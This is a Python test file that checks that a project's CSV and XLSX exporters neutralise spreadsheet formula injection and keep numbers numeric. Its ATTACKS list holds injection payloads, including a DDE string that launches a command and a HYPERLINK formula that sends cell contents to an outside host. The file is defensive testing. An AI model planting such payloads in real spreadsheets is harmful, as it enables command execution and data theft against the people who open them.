"""Exports neutralise spreadsheet formulas: any text, written to CSV or XLSX by spm_kernel,
is read back by a spreadsheet as text (never a formula), and numbers stay numbers."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from spm_kernel.exports import FORMULA_PREFIXES, neutralise, neutralise_frame, write_csv
from tests.test_fuzz_importers import FUZZ, counted

ATTACKS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=cmd", "\r=cmd", '=HYPERLINK("http://x/?"&A1,"click")',
           "=cmd|' /C calc'!A0", "plain", "", "'quoted", "\u202e=1"]


@FUZZ
@given(text=st.text(max_size=30) | st.sampled_from(ATTACKS))
def test_neutralised_text_never_starts_like_a_formula_and_safe_text_is_unchanged(text: str) -> None:
    counted("exports: text")
    out = neutralise(text)
    assert not out.startswith(FORMULA_PREFIXES)
    assert out == (("'" + text) if text.startswith(FORMULA_PREFIXES) else text)


def test_csv_export_neutralises_text_and_keeps_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": ATTACKS, "amount": [Decimal("-5.00")] * len(ATTACKS), "n": range(-6, 6)})
    path = write_csv(frame, tmp_path / "out.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["name", "amount", "n"]
    for (name, amount, n), original, number in zip(rows[1:], ATTACKS, range(-6, 6)):
        assert not name.startswith(FORMULA_PREFIXES) and name.removeprefix("'") in (original, original[1:])
        assert amount == "-5.00" and n == str(number)  # a negative amount is a number, not neutralised
    assert neutralise_frame(pd.DataFrame({"=x": [1]})).columns.tolist() == ["'=x"]


def test_performance_and_statement_xlsx_writers_store_formula_text_as_text(tmp_path: Path) -> None:
    from spm_kernel.reports.performance_xlsx import _Book
    from spm_kernel.reports.statements_xlsx import _Writer

    path = tmp_path / "perf.xlsx"
    book = _Book(path, "USD")
    sheet = book.wb.add_worksheet("S")
    book.table(sheet, 0, pd.DataFrame({"name": ATTACKS, "value": [-1.5] * len(ATTACKS)}),
               [("name", "=Header", "text"), ("value", "Value", "currency")])
    book.wb.close()
    statement = tmp_path / "statement.xlsx"
    writer = _Writer(statement, 2)
    other = writer.wb.add_worksheet("S")
    for r, text in enumerate(ATTACKS):
        writer.cell(other, r, 0, text, "text")
    writer.wb.close()
    for file in (path, statement):
        counted("exports: xlsx files")
        cells = [c for row in openpyxl.load_workbook(file)["S"].iter_rows() for c in row if c.value is not None]
        assert cells and all(c.data_type != "f" for c in cells), [(c.value, c.data_type) for c in cells]
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert not any(t.startswith(FORMULA_PREFIXES) for t in texts), texts
    values = [c.value for c in openpyxl.load_workbook(path)["S"]["B"]][1:]
    assert values == [-1.5] * len(ATTACKS)
